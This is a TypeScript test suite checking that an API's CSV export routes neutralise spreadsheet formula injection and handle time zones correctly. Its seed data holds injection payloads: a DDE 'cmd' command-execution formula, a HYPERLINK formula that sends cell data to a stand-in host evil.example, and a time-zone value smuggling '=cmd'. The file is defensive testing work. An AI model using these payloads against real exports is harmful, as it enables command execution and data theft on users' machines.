// Every CSV export route neutralises spreadsheet formulas: text supplied by administrators or by
// the public site that starts with = + - @ (or a tab or carriage return) comes out prefixed with ',
// so a spreadsheet shows it as text instead of running it.
import { startWithDemoData, type TestApi } from '../support/apiServer';
import { buildFeedback, buildNews, buildNotice } from '../support/factories';

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3+cmd|x',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
];

let api: TestApi;
let rootToken: string;
beforeAll(async () => {
  ({ api, rootToken } = await startWithDemoData());
  for (const [index, formula] of FORMULAS.entries()) {
    await buildNews(api, rootToken, {
      title: formula,
      description: formula,
      publishedAt: `2025-03-0${index + 1}T08:00:00.000Z`,
    });
    await buildNotice(api, rootToken, { content: formula, platform: 'web' });
  }
  // Feedback arrives from the public site, outside this API.
  await buildFeedback(api.db, ...FORMULAS.map((formula) => ({ email: `${formula}@example.com`, content: formula })));
}, 120_000);
afterAll(() => api.close());

/** RFC 4180 cells of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let index = text.startsWith('\uFEFF') ? 1 : 0;
  while (index < text.length) {
    let cell = '';
    if (text[index] === '"') {
      index += 1;
      while (index < text.length) {
        if (text[index] === '"' && text[index + 1] === '"') {
          cell += '"';
          index += 2;
        } else if (text[index] === '"') {
          index += 1;
          break;
        } else {
          cell += text[index];
          index += 1;
        }
      }
    } else {
      while (index < text.length && text[index] !== ',' && text[index] !== '\r' && text[index] !== '\n') {
        cell += text[index];
        index += 1;
      }
    }
    cells.push(cell);
    if (text[index] === ',') index += 1;
    else while (text[index] === '\r' || text[index] === '\n') index += 1;
  }
  return cells;
}

const NUMBER = /^-?\d+(\.\d+)?$/;

describe('CSV exports', () => {
  it('every export route answers CSV in which no text cell can run as a formula', async () => {
    const exportRoutes = api.app.routeRegistry.filter(
      (route) => route.method === 'GET' && route.url.endsWith('/export'),
    );
    expect(exportRoutes.map((route) => route.url).sort()).toEqual(
      expect.arrayContaining([
        '/api/feedback/export',
        '/api/news/export',
        '/api/nftAirdrops/export',
        '/api/notices/export',
        '/api/points/export',
      ]),
    );
    for (const route of exportRoutes) {
      const response = await api.call('GET', route.url, undefined, rootToken);
      expect({ route: route.url, status: response.statusCode, type: response.headers['content-type'] }).toEqual({
        route: route.url,
        status: 200,
        type: expect.stringMatching(/^text\/csv/),
      });
      const dangerous = csvCells(response.body).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));
      expect({ route: route.url, dangerous }).toEqual({ route: route.url, dangerous: [] });
    }
  });

  it.each([['/api/news/export'], ['/api/notices/export'], ['/api/feedback/export']])(
    '%s carries each seeded formula, neutralised with a leading quote',
    async (url) => {
      const cells = csvCells((await api.call('GET', url, undefined, rootToken)).body);
      for (const formula of FORMULAS)
        expect({ formula, found: cells.includes(`'${formula}`) }).toEqual({ formula, found: true });
    },
  );
});

describe("CSV exports: times in the reader's time zone", () => {
  const exportOf = (query: string) => api.call('GET', `/api/news/export?title=%2BSUM&${query}`, undefined, rootToken);
  /** The first seeded formula's news item (published 2025-03-02T08:00:00Z) as header and row cells. */
  const headerAndRow = async (query: string) => {
    const response = await exportOf(query);
    expect(response.statusCode).toBe(200);
    const [header, row] = response.body.replace(/^\uFEFF/, '').split('\r\n');
    return { header: header.split(','), row };
  };

  it("writes each time in the asked zone with its offset, the zone named in the time columns' headers", async () => {
    const { header, row } = await headerAndRow('locale=en-US&timeZone=Asia%2FShanghai');
    expect(header).toEqual(
      expect.arrayContaining(['Time (Asia/Shanghai)', 'Created (Asia/Shanghai)', 'Title', 'Link']),
    );
    expect(row).toContain(',2025-03-02 16:00:00+08:00,');
    const chinese = await headerAndRow('locale=zh-CN&timeZone=America%2FNew_York');
    expect(chinese.header).toContain('时间（America/New_York）');
    expect(chinese.row).toContain(',2025-03-02 03:00:00-05:00,');
  });

  it('writes UTC, and says so, when no zone is asked', async () => {
    const { header, row } = await headerAndRow('locale=en-US');
    expect(header).toContain('Time (UTC)');
    expect(row).toContain(',2025-03-02 08:00:00+00:00,');
  });

  it.each([['Mars%2FOlympus'], ['%2B08%3A00'], [encodeURIComponent('Asia/Shanghai,"=cmd"')], ['A'.repeat(65)]])(
    'refuses the zone %s: 400, and no file',
    async (zone) => {
      const response = await exportOf(`timeZone=${zone}`);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ success: false, errorCode: 'VALIDATION_FAILED' });
      expect(response.headers['content-disposition']).toBeUndefined();
    },
  );

  it('every export in a language takes the zone, and every one without refuses it', async () => {
    const exportRoutes = api.app.routeRegistry.filter(
      (route) => route.method === 'GET' && route.url.endsWith('/export') && !route.url.includes(':'),
    );
    const answers = await Promise.all(
      exportRoutes.map(async (route) => {
        const inLanguage = (await api.call('GET', `${route.url}?locale=zh-CN`, undefined, rootToken)).statusCode;
        const zoned = (await api.call('GET', `${route.url}?timeZone=Asia%2FShanghai`, undefined, rootToken)).statusCode;
        return { route: route.url, inLanguage, zoned };
      }),
    );
    // The points and NFT airdrop exports are the import format (machine headers, UTC instants): they take neither.
    for (const answer of answers) expect(answer.zoned).toBe(answer.inLanguage);
    expect(answers.filter((answer) => answer.zoned === 200).map((answer) => answer.route)).toEqual(
      expect.arrayContaining(['/api/news/export', '/api/notices/export', '/api/feedback/export']),
    );
  });
});
